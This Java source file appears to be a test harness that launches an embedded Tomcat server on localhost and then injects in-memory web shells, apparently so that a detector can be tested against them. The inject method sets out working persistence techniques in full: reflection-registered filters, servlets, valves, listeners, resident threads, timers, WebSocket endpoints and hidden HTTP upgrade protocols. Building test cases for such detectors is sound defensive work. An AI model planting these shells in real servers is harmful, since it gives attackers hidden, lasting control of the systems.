import jakarta.servlet.Filter;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import jakarta.websocket.Endpoint;
import jakarta.websocket.EndpointConfig;
import jakarta.websocket.Session;
import jakarta.websocket.server.ServerContainer;
import jakarta.websocket.server.ServerEndpointConfig;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.WebSocket;
import java.nio.file.Files;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CompletionStage;
import java.util.concurrent.TimeUnit;
import org.apache.catalina.Context;
import org.apache.catalina.Valve;
import org.apache.catalina.Wrapper;
import org.apache.catalina.connector.Connector;
import org.apache.catalina.core.StandardContext;
import org.apache.catalina.startup.Tomcat;
import org.apache.coyote.UpgradeProtocol;
import org.apache.tomcat.util.descriptor.web.FilterDef;
import org.apache.tomcat.util.descriptor.web.FilterMap;
import org.apache.tomcat.websocket.server.WsSci;

public final class TomcatApp {
  private static StandardContext context;
  private static Connector connector;

  public static void main(String[] args) throws Exception {
    Tomcat tomcat = new Tomcat();
    tomcat.setBaseDir(Files.createTempDirectory("whorl-tomcat").toString());
    tomcat.setHostname("127.0.0.1");
    tomcat.setPort(0);
    tomcat.getConnector().setProperty("address", "127.0.0.1");
    Context made = tomcat.addContext("", null);
    context = (StandardContext) made;
    Tomcat.addServlet(context, "app", new App());
    context.addServletMappingDecoded("/*", "app");
    FilterDef own = new FilterDef();
    own.setFilterName("own");
    own.setFilter((request, response, chain) -> chain.doFilter(request, response));
    context.addFilterDef(own);
    FilterMap map = new FilterMap();
    map.setFilterName("own");
    map.addURLPattern("/*");
    context.addFilterMap(map);
    connector = tomcat.getConnector();
    // The server's own initialisers first, then the application's, as with a web.xml.
    context.addServletContainerInitializer(new WsSci(), null);
    context.addServletContainerInitializer(
        (classes, servletContext) -> {
          try {
            sockets()
                .addEndpoint(ServerEndpointConfig.Builder.create(OwnSocket.class, "/own").build());
          } catch (jakarta.websocket.DeploymentException e) {
            throw new IllegalStateException(e);
          }
        },
        null);
    tomcat.start();
    int port = tomcat.getConnector().getLocalPort();
    Injected.expect("hello", Injected.get(port, "/x"));
    Injected.expect("own socket", firstText(port, "/own"));
    if (Injected.attacked()) {
      Injected.expect("done", Injected.get(port, "/inject"));
      Injected.expect("shell of filter", Injected.get(port, "/shell-filter"));
      Injected.expect("shell of servlet", Injected.get(port, "/shell-servlet"));
      Injected.expect("shell of socket", firstText(port, "/shell-socket"));
      new Injected.Line(port)
          .ask("/x", "Connection: upgrade\r\nUpgrade: mapped-shell\r\n", "shell of mapped upgrade");
    }
    Injected.alertAndWait(args[0]);
  }

  private static ServerContainer sockets() {
    return (ServerContainer)
        context.getServletContext().getAttribute("jakarta.websocket.server.ServerContainer");
  }

  /** What a WebSocket endpoint says first. */
  private static String firstText(int port, String path) throws Exception {
    CompletableFuture<String> first = new CompletableFuture<>();
    HttpClient.newHttpClient()
        .newWebSocketBuilder()
        .buildAsync(
            URI.create("ws://127.0.0.1:" + port + path),
            new WebSocket.Listener() {
              @Override
              public CompletionStage<?> onText(WebSocket socket, CharSequence text, boolean last) {
                first.complete(text.toString());
                return null;
              }

              @Override
              public void onError(WebSocket socket, Throwable failure) {
                first.completeExceptionally(failure);
              }
            })
        .get(20, TimeUnit.SECONDS);
    return first.get(20, TimeUnit.SECONDS);
  }

  public static final class OwnSocket extends Endpoint {
    @Override
    public void onOpen(Session session, EndpointConfig config) {
      session.getAsyncRemote().sendText("own socket");
    }
  }

  public static final class App extends HttpServlet {
    @Override
    protected void doGet(HttpServletRequest request, HttpServletResponse response)
        throws IOException {
      try {
        if (request.getRequestURI().equals("/inject")) {
          Injected.comeIn();
          inject();
          Injected.carryOn();
          response.getWriter().print("done");
        } else {
          response.getWriter().print("hello");
        }
      } catch (Exception e) {
        e.printStackTrace();
        throw new IOException(e);
      }
    }

    @SuppressWarnings("unchecked")
    private static void inject() throws Exception {
      Filter filter = (Filter) Injected.make("reflection", "ShellFilter");
      FilterDef def = new FilterDef();
      def.setFilterName("shell");
      def.setFilter(filter);
      def.setFilterClass(filter.getClass().getName());
      context.addFilterDef(def);
      FilterMap map = new FilterMap();
      map.setFilterName("shell");
      map.addURLPattern("/shell-filter");
      context.addFilterMapBefore(map);
      Class<?> config = Class.forName("org.apache.catalina.core.ApplicationFilterConfig");
      var constructor = config.getDeclaredConstructor(Context.class, FilterDef.class);
      constructor.setAccessible(true);
      ((Map<String, Object>) Injected.field(context, "filterConfigs"))
          .put("shell", constructor.newInstance(context, def));

      Wrapper wrapper = context.createWrapper();
      wrapper.setName("shell-servlet");
      HttpServlet servlet = (HttpServlet) Injected.make("own", "ShellServlet");
      wrapper.setServlet(servlet);
      wrapper.setServletClass(servlet.getClass().getName());
      context.addChild(wrapper);
      context.addServletMappingDecoded("/shell-servlet", "shell-servlet");

      context.getPipeline().addValve((Valve) Injected.make("lookup", "ShellValve"));
      context.addApplicationEventListener(Injected.make("hidden", "ShellListener"));
      Thread resident = new Thread((Runnable) Injected.make("unsafe", "ShellThread"), "resident");
      resident.setDaemon(true);
      resident.start();
      java.util.Timer timer = new java.util.Timer("resident-timer", true);
      timer.schedule((java.util.TimerTask) Injected.make("domain", "ShellTimer"), 3_600_000L);

      sockets()
          .addEndpoint(
              ServerEndpointConfig.Builder.create(
                      Injected.define("own", "ShellSocket"), "/shell-socket")
                  .build());
      connector.addUpgradeProtocol((UpgradeProtocol) Injected.make("lookup", "ShellUpgrade"));
      // Those that are added late are not asked; so another goes where they are looked up.
      ((Map<String, Object>)
              Injected.field(connector.getProtocolHandler(), "httpUpgradeProtocols"))
          .put("mapped-shell", Injected.make("hidden", "ShellMappedUpgrade"));
    }
  }
}
